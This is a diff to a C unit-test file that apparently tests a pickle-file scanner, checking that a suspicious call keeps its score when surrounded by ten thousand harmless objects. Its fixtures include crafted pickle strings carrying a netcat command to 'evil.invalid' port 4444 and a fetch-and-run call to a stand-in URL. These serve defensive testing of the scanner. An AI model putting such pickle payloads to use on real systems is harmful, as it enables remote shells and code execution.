@@ -55,6 +55,44 @@ static void an_attack_stays_one_under_ten_thousand_clean_objects(void **state)
     }
 }
 
+/* Calls of what no table knows: what the model says of one stays, before, between and after ten
+ * thousand others, also where the result is dropped only then. */
+static void what_is_learned_of_a_call_stays_in_any_company(void **state)
+{
+    static const struct piece calls[] = {
+        P("cnowhere.jobs\nremote_shell\n(S'nc evil.invalid 4444'\ntR."),
+        P("cnowhere.jobs\nhandle\n(S'/tmp/a.sh'\ntR."),
+        P("cnowhere.jobs\nfetch_and_start\n(S'http://x.invalid/a'\ntR0N."),
+        P("cnowhere.jobs\n_ctor\n(I1\nI2\ntR."),
+    };
+    static const struct piece fillers[] = {
+        P("ccollections\nOrderedDict\n)R0"),
+        P("cmy.lib\nThing\n(S'x'\ntR0"),
+        P("cmy.lib\n_rebuild\n(I1\ntR0"),
+    };
+
+    (void)state;
+    for (size_t i = 0; i < sizeof(calls) / sizeof(calls[0]); i++) {
+        double alone = judged(calls[i], NULL).score;
+
+        for (size_t j = 0; j < sizeof(fillers) / sizeof(fillers[0]); j++) {
+            struct piece before = buried(calls[i], fillers[j], 10000);
+            struct piece inside = {calls[i].at, calls[i].len - 1};
+            struct piece after = buried((struct piece)P("."), fillers[j], 10000);
+            size_t len = inside.len + after.len;
+            char *joined = malloc(len);
+
+            memcpy(joined, inside.at, inside.len);
+            memcpy(joined + inside.len, after.at, after.len);
+            assert_true(judged(before, NULL).score >= alone);
+            assert_true(judged((struct piece){joined, len}, NULL).score >= alone);
+            free(joined);
+            free((void *)before.at);
+            free((void *)after.at);
+        }
+    }
+}
+
 static void look_at_flood(const struct sg_report *report)
 {
     bool seen = false;
@@ -105,6 +143,7 @@ int main(void)
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(nothing_that_is_added_lowers_a_score),
         cmocka_unit_test(an_attack_stays_one_under_ten_thousand_clean_objects),
+        cmocka_unit_test(what_is_learned_of_a_call_stays_in_any_company),
         cmocka_unit_test(a_flood_of_lesser_reasons_does_not_wash_out_the_worst),
         cmocka_unit_test(every_truncation_of_an_attack_is_judged_without_harm),
     };
